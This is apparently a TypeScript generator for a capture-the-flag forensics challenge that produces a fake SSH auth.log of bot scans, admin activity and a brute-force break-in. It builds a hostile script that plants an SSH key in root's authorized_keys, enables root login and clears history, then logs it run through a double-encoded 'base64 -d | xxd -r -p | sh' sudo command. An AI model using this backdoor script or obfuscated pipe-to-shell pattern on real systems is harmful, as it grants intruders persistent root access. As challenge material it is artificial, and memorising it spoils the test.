import type { FileGenerator, GeneratedFile, GeneratorInput } from '../generator.js';
import { createSeedStream, type SeedStream } from '../lib/seed-stream.js';

const HOST = 'web01';
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
/** Names bots try first, then the accounts a web server really has. */
const BOT_USERS = ['root', 'admin', 'test', 'ubuntu', 'oracle', 'postgres', 'user', 'guest', 'pi', 'ftpuser', 'git', 'support'];
const VICTIMS = [
  { name: 'deploy', uid: 1001 },
  { name: 'backup', uid: 1002 },
  { name: 'www-admin', uid: 1003 },
];
const ADMIN = { name: 'jmartin', uid: 1000 };
const ADMIN_COMMANDS = [
  '/usr/bin/apt-get update',
  '/usr/bin/systemctl restart nginx',
  '/usr/bin/journalctl -u nginx --since today',
  '/usr/bin/tail -n 50 /var/log/nginx/error.log',
  '/usr/sbin/ufw status',
];

interface LogLine {
  /** Seconds since the start of the day the log begins. */
  at: number;
  text: string;
}

function formatTime(at: number, month: number, day: number): string {
  const dayOffset = Math.floor(at / 86_400);
  const seconds = at % 86_400;
  const clock = [Math.floor(seconds / 3600), Math.floor(seconds / 60) % 60, seconds % 60]
    .map((n) => String(n).padStart(2, '0'))
    .join(':');
  return `${MONTHS[month]} ${String(day + dayOffset).padStart(2, ' ')} ${clock}`;
}

function randomIp(random: SeedStream): string {
  // Documentation ranges (RFC 5737) for the internet, so no real address is accused.
  return `${random.pick(['192.0.2', '198.51.100', '203.0.113'])}.${random.nextIntBetween(2, 254)}`;
}

/**
 * What the attacker's one-liner runs once decoded twice: it plants an SSH key for root, the flag as the key's comment.
 */
function buildPayload(random: SeedStream, flag: string): string {
  const key = random.nextBytes(51).toString('base64').replace(/[+/=]/g, 'A');
  return [
    '#!/bin/sh',
    'mkdir -p /root/.ssh && chmod 700 /root/.ssh',
    `echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${key} ${flag}' >> /root/.ssh/authorized_keys`,
    'chmod 600 /root/.ssh/authorized_keys',
    "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config && systemctl reload ssh",
    'history -c',
    '',
  ].join('\n');
}

/**
 * An `/var/log/auth.log` of a web server (Debian's rsyslog format): background SSH scans, an admin's key logins and
 * sudo, then one address guessing passwords until an account falls, and the intruder's sudo command whose payload is
 * the hex of a script, then base64 of that hex. The flag is in the script.
 */
export const generateSshIntrusionLog: FileGenerator = ({ flag, seed }: GeneratorInput): GeneratedFile => {
  const random = createSeedStream(seed, 'ssh-intrusion-log');
  const month = random.nextInt(12);
  const day = random.nextIntBetween(1, 26);
  const lines: LogLine[] = [];
  let pid = random.nextIntBetween(20_000, 40_000);
  const nextPid = (): number => (pid += random.nextIntBetween(1, 40));
  const port = (): number => random.nextIntBetween(32_768, 60_999);

  const addFailure = (at: number, ip: string, user: string, isValid: boolean): void => {
    const sshd = `${HOST} sshd[${nextPid()}]`;
    const from = `from ${ip} port ${port()}`;
    if (!isValid) lines.push({ at, text: `${sshd}: Invalid user ${user} ${from}` });
    lines.push({
      at: at + random.nextIntBetween(1, 3),
      text: `${sshd}: Failed password for ${isValid ? '' : 'invalid user '}${user} ${from} ssh2`,
    });
  };

  // Internet noise: bots trying common names all day long, none getting in.
  for (let i = 0; i < 140; i += 1) {
    const user = random.pick(BOT_USERS);
    addFailure(random.nextInt(86_400 * 2), randomIp(random), user, user === 'root');
  }
  // The admin logs in with a key, from the office, and uses sudo.
  for (let i = 0; i < 4; i += 1) {
    const at = random.nextIntBetween(8, 18) * 3600 + random.nextInt(3600) + (i % 2) * 86_400;
    const sshd = `${HOST} sshd[${nextPid()}]`;
    lines.push({
      at,
      text: `${sshd}: Accepted publickey for ${ADMIN.name} from 10.0.4.23 port ${port()} ssh2: ED25519 SHA256:${random.nextBytes(32).toString('base64').slice(0, 43)}`,
    });
    lines.push({
      at,
      text: `${sshd}: pam_unix(sshd:session): session opened for user ${ADMIN.name}(uid=${ADMIN.uid}) by (uid=0)`,
    });
    const command = random.pick(ADMIN_COMMANDS);
    lines.push({
      at: at + 40,
      text: `${HOST} sudo: ${ADMIN.name} : TTY=pts/0 ; PWD=/home/${ADMIN.name} ; USER=root ; COMMAND=${command}`,
    });
    lines.push({
      at: at + 40,
      text: `${HOST} sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ${ADMIN.name}(uid=${ADMIN.uid})`,
    });
    lines.push({ at: at + 42, text: `${HOST} sudo: pam_unix(sudo:session): session closed for user root` });
    lines.push({
      at: at + random.nextIntBetween(600, 3000),
      text: `${sshd}: pam_unix(sshd:session): session closed for user ${ADMIN.name}`,
    });
  }
  // CRON, every hour.
  for (let hour = 0; hour < 48; hour += 1) {
    const at = hour * 3600 + 17 * 60 + 1;
    const cron = `${HOST} CRON[${nextPid()}]`;
    lines.push({ at, text: `${cron}: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)` });
    lines.push({ at: at + 1, text: `${cron}: pam_unix(cron:session): session closed for user root` });
  }

  // The intrusion: one address, a wordlist against the real accounts, then a password that works.
  const attacker = randomIp(random);
  const victim = random.pick(VICTIMS);
  let at = 86_400 + random.nextIntBetween(1, 4) * 3600 + random.nextInt(3600);
  const attempts = random.nextIntBetween(120, 220);
  for (let i = 0; i < attempts; i += 1) {
    const user = i % 5 === 4 ? victim.name : random.pick(['root', 'admin', victim.name, 'deploy', 'backup']);
    addFailure(at, attacker, user, user === 'root' || VICTIMS.some((v) => v.name === user));
    at += random.nextIntBetween(1, 4);
  }
  const sshd = `${HOST} sshd[${nextPid()}]`;
  const attackerPort = port();
  lines.push({ at, text: `${sshd}: Accepted password for ${victim.name} from ${attacker} port ${attackerPort} ssh2` });
  lines.push({
    at,
    text: `${sshd}: pam_unix(sshd:session): session opened for user ${victim.name}(uid=${victim.uid}) by (uid=0)`,
  });
  lines.push({ at, text: `${HOST} systemd-logind[612]: New session ${random.nextIntBetween(200, 900)} of user ${victim.name}.` });
  const encoded = Buffer.from(Buffer.from(buildPayload(random, flag), 'utf8').toString('hex'), 'ascii').toString('base64');
  at += random.nextIntBetween(30, 90);
  lines.push({
    at,
    text: `${HOST} sudo: ${victim.name} : TTY=pts/1 ; PWD=/home/${victim.name} ; USER=root ; COMMAND=/usr/bin/bash -c echo ${encoded} | base64 -d | xxd -r -p | sh`,
  });
  lines.push({
    at,
    text: `${HOST} sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ${victim.name}(uid=${victim.uid})`,
  });
  lines.push({ at: at + 1, text: `${HOST} sudo: pam_unix(sudo:session): session closed for user root` });
  lines.push({
    at: at + 20,
    text: `${sshd}: Received disconnect from ${attacker} port ${attackerPort}:11: disconnected by user`,
  });
  lines.push({ at: at + 20, text: `${sshd}: pam_unix(sshd:session): session closed for user ${victim.name}` });

  const text = lines
    .map((line, index) => ({ line, index }))
    .sort((a, b) => a.line.at - b.line.at || a.index - b.index)
    .map(({ line }) => `${formatTime(line.at, month, day)} ${line.text}\n`)
    .join('');
  return { fileName: 'auth.log', contentType: 'text/plain; charset=utf-8', data: Buffer.from(text, 'utf8') };
};
